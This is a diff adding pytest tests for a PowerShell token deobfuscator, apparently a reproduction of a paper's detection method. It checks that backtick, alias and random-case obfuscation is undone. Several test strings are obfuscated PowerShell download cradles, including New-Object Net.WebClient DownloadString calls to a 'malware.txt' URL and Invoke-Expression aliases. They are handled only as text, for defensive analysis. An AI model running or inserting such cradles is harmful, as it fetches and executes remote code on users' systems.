@@ -1,0 +1,96 @@
+"""Tests for phase 1 — token parsing (Section III-A)."""
+
+from repro.core.token_deobfuscator import (
+    deobfuscate_tokens,
+    token_obfuscation_present,
+)
+
+
+class TestTicking:
+    def test_command_ticks_removed(self):
+        assert (
+            deobfuscate_tokens("nE`w-oB`jEcT Net.WebClient")
+            == "New-Object Net.WebClient"
+        )
+
+    def test_argument_ticks_removed(self):
+        result = deobfuscate_tokens("write-host he`llo")
+        assert "`" not in result
+
+    def test_ticks_inside_single_quotes_kept(self):
+        source = "write-host 'tick ` stays'"
+        assert "`" in deobfuscate_tokens(source)
+
+
+class TestAlias:
+    def test_iex_expanded(self):
+        assert deobfuscate_tokens("IeX 'x'") == "Invoke-Expression 'x'"
+
+    def test_percent_expanded(self):
+        result = deobfuscate_tokens("1..3 | % { $_ }")
+        assert "ForEach-Object" in result
+
+    def test_sal_expanded(self):
+        result = deobfuscate_tokens("sal x iex")
+        assert result.startswith("Set-Alias")
+
+    def test_unknown_command_kept(self):
+        assert deobfuscate_tokens("My-Command 1") == "My-Command 1"
+
+
+class TestRandomCase:
+    def test_known_command_canonicalized(self):
+        assert (
+            deobfuscate_tokens("wRiTe-HoSt hello") == "Write-Host hello"
+        )
+
+    def test_keyword_lowered(self):
+        result = deobfuscate_tokens("ForEach ($i in 1..3) { $i }")
+        assert result.startswith("foreach")
+
+    def test_type_canonicalized(self):
+        result = deobfuscate_tokens("[ChAr]97")
+        assert result == "[char]97"
+
+    def test_member_canonicalized(self):
+        result = deobfuscate_tokens("'x'.rEpLaCe('a','b')")
+        assert ".Replace(" in result
+
+    def test_string_contents_untouched(self):
+        source = "write-host 'WeIrD CaSe'"
+        assert "'WeIrD CaSe'" in deobfuscate_tokens(source)
+
+
+class TestCombined:
+    def test_paper_listing2(self):
+        source = (
+            "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrIng("
+            "'https://test.com/malware.txt')"
+        )
+        result = deobfuscate_tokens(source)
+        assert "New-Object" in result
+        assert ".DownloadString(" in result
+        assert "`" not in result
+        assert "'https://test.com/malware.txt'" in result
+
+    def test_offsets_stay_consistent(self):
+        source = "IeX 'a'; IeX 'b'; IeX 'c'"
+        result = deobfuscate_tokens(source)
+        assert result.count("Invoke-Expression") == 3
+
+    def test_invalid_script_returned_unchanged(self):
+        source = "'unterminated"
+        assert deobfuscate_tokens(source) == source
+
+    def test_idempotent(self):
+        source = "I`eX (nEw-oBjEcT Net.WebClient)"
+        once = deobfuscate_tokens(source)
+        assert deobfuscate_tokens(once) == once
+
+
+class TestDetection:
+    def test_detects_alias(self):
+        assert token_obfuscation_present("iex 'x'")
+
+    def test_clean_script(self):
+        assert not token_obfuscation_present("Write-Host hello")
